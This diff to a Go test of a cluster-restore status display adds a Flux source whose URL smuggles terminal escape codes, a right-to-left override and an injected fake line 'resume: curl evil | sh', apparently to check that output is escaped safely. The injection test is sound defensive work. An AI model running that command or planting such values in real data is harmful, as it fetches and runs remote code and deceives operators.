@@ -45,6 +45,13 @@ func TestRestoreTellsWhatIsTrue(t *testing.T) {
 	line.adoption = restore.Adoption{Unmet: []selfmanaged.Unmet{{Object: "Cluster ns/demo", Message: "not reported yet",
 		Waiting: true}}, Made: []string{"Machine ns/new"}, Gone: []string{"Machine ns/old"}}
 	show()
+	line.result.Suspended = []restore.Suspended{{Release: capi.Object{APIVersion: "helm.toolkit.fluxcd.io/v2",
+		Kind: "HelmRelease", Namespace: "team-a", Name: "shop"}, Resume: "flux resume helmrelease -n team-a shop",
+		Sources: []restore.Source{{Object: capi.Object{APIVersion: "source.toolkit.fluxcd.io/v1", Kind: "GitRepository",
+			Namespace: "team-a", Name: "shop"},
+			URL: "https://git.example/a\"\x1b[2J\n    resume: curl evil | sh\u202e"}}}}
+	line.result.Warnings, line.adoption = nil, restore.Adoption{}
+	show()
 	golden.Check(t, "restore.txt", text.Bytes())
 }
 
